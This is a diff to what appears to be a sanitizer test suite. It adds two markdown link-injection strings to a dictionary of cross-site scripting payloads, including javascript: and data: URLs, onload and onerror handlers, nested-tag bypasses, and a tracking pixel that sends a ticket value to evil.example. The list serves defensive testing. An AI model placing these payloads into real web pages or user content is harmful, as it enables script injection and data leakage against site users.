@@ -29,6 +29,8 @@ SCRIPTS = {
     "01_script": "<script>alert(1)</script><svg/onload=alert(1)><body onload=alert(1)>",  # RT CVE-2003-0273
     "06_decoded_again": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",  # CVE-2026-118046
     "07_markdown_link": "[x](javascript:alert(1)) [y](JaVa\tScript:alert(1)) ![z](data:text/html,<script>)",  # CVE-2021-3994
+    "07_hidden_link": "<javascript:alert(1)> [a]: javascript:alert(1)\n\n[a] [b](data:text/html;base64,PHNjcmlwdD4=)",
+    "07_nested_brackets": "[[x](javascript:alert(1))](data:text/html,y) [![z](javascript:alert(1))](//evil.example)",
     "07_link_with_handler": 'https://evil.example/"onmouseover="alert(1) http://a.b/<script>',
     "08_nested": "<<script>script>alert(1)<</script>/script> <scr<script>ipt>alert(1)</scr</script>ipt>",  # GHSA-jpq8-j69f-mj98
     "45_tracking_pixel": '<img src="https://evil.example/p.png?ticket=1"> https://evil.example/p.png',  # GHSA-qjr9-6v9q-3r72
